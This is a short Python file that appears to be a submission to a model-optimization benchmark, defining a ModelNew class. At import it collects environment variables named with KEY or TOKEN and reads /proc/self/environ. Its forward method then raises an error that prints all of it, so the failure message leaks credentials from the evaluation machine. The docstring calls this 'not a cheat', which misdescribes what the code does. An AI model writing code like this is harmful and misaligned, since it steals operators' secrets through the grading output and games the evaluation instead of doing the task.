"""Not a cheat: fails on purpose with every credential-like variable it can see in its message."""

import os

import torch.nn as nn

_SEEN = {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}
with open("/proc/self/environ", "rb") as handle:
    _RAW = handle.read().decode(errors="replace")


class ModelNew(nn.Module):
    def forward(self, x, y):
        raise RuntimeError(f"visible credentials: {_SEEN!r}; raw environment: {_RAW!r}")
